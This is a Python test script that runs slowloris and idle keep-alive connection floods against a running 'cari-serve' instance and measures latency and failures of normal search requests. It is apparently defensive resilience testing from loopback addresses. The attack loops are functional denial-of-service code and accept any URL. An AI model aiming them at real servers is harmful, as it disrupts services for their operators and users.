#!/usr/bin/env python3
# serve-attack.py - connection attacks on a running cari-serve, and the
# normal requests that must still be answered meanwhile (issue 20, item 3).
#
#   serve-attack.py URL MODE N SECONDS [--from same|spread]
#
# MODE slowloris: N connections each send a request line and one more
#   header line every 5 s, never ending the head; a connection the server
#   closes is opened again at once.
# MODE idle: N keep-alive connections each send one whole request, read
#   the answer and then stay silent; a closed one is opened again.
# --from same: the attackers connect from 127.0.0.1, as the normal client
#   does; spread: from 127.0.0.2 and up (250 connections an address), so
#   that a per-IP limit can tell them apart.
#
# Once the attackers have been opening for 5 s, a normal client sends one
# request (a new connection, GET /api/search?q=...) every 0.25 s for SECONDS
# and gives each 5 s.  Prints one line: attack connections open at the end,
# attacker (re)connections, normal requests ok/failed, p50/p99/max ms.
import argparse
import asyncio
import multiprocessing
import random
import resource
import socket
import sys
import time
import urllib.parse


def source_of(i, spread):
    if not spread:
        return "127.0.0.1"
    return "127.0.0.%d" % (2 + i // 250 % 250)


class Stats:
    def __init__(self):
        self.open = 0
        self.connects = 0
        self.refused = 0


async def attacker(i, host, port, mode, spread, stats, stop):
    src = source_of(i, spread)
    while not stop.is_set():
        try:
            r, w = await asyncio.open_connection(host, port,
                                                 local_addr=(src, 0))
        except OSError:
            stats.refused += 1
            await asyncio.sleep(0.5)
            continue
        stats.connects += 1
        stats.open += 1
        try:
            if mode == "slowloris":
                w.write(b"GET /api/search?q=banjir&x=%d HTTP/1.1\r\n"
                        b"Host: a\r\n" % random.randrange(1 << 30))
                await w.drain()
                while not stop.is_set():
                    await asyncio.sleep(5)
                    w.write(b"X-a: %d\r\n" % random.randrange(1 << 30))
                    await w.drain()
            else:
                w.write(b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n")
                await w.drain()
                await r.readuntil(b"ok\n")
                # Silent until the server closes it.
                while not stop.is_set():
                    if not await r.read(4096):
                        break
        except (OSError, asyncio.IncompleteReadError,
                asyncio.LimitOverrunError):
            pass
        finally:
            stats.open -= 1
            w.close()


def normal(host, port, path, secs, out):
    """The normal client, in a process of its own (the attackers' event
    loop would delay it): one request every 0.25 s, 5 s for each."""
    lat, failed = [], []
    end = time.monotonic() + secs
    while time.monotonic() < end:
        t0 = time.monotonic()
        try:
            s = socket.create_connection((host, port), 5)
            s.settimeout(5)
            s.sendall(b"GET %s HTTP/1.1\r\nHost: a\r\nConnection: close\r\n"
                      b"\r\n" % path.encode())
            data = b""
            while time.monotonic() - t0 < 5:
                b = s.recv(65536)
                if not b:
                    break
                data += b
            s.close()
            if data.startswith(b"HTTP/1.1 200"):
                lat.append((time.monotonic() - t0) * 1e3)
            else:
                failed.append(data[:12].decode(errors="replace") or "closed")
        except OSError as e:
            failed.append(type(e).__name__)
        time.sleep(max(0, 0.25 - (time.monotonic() - t0)))
    out.send((lat, failed))


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("url")
    ap.add_argument("mode", choices=["slowloris", "idle"])
    ap.add_argument("n", type=int)
    ap.add_argument("secs", type=float)
    ap.add_argument("--from", dest="src", choices=["same", "spread"],
                    default="same")
    a = ap.parse_args()
    u = urllib.parse.urlsplit(a.url)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if hard < a.n + 100:
        sys.exit("serve-attack.py: the open file limit %d is below %d "
                 "connections: raise it (ulimit -Hn)" % (hard, a.n))
    stats, stop = Stats(), asyncio.Event()
    tasks = [asyncio.ensure_future(attacker(i, u.hostname, u.port, a.mode,
                                            a.src == "spread", stats, stop))
             for i in range(a.n)]
    await asyncio.sleep(5)
    here, there = multiprocessing.Pipe()
    prober = multiprocessing.Process(target=normal, args=(
        u.hostname, u.port, "/api/search?q=banjir+bekasi", a.secs, there))
    prober.start()
    while not here.poll():
        await asyncio.sleep(0.2)
    lat, failed = here.recv()
    prober.join()
    still = stats.open
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    lat.sort()
    pct = (lambda p: lat[min(len(lat) - 1, int(p * len(lat)))] if lat
           else float("nan"))
    fails = ", ".join("%d %s" % (failed.count(f), f)
                      for f in sorted(set(failed)))
    print("%s %d from %s: %d open at the end, %d connections made, %d "
          "refused; normal requests %d ok, %d failed%s; p50 %.1f ms p99 "
          "%.1f ms max %.1f ms"
          % (a.mode, a.n, a.src, still, stats.connects, stats.refused,
             len(lat), len(failed), " (" + fails + ")" if fails else "",
             pct(0.5), pct(0.99), lat[-1] if lat else float("nan")))


asyncio.run(main())
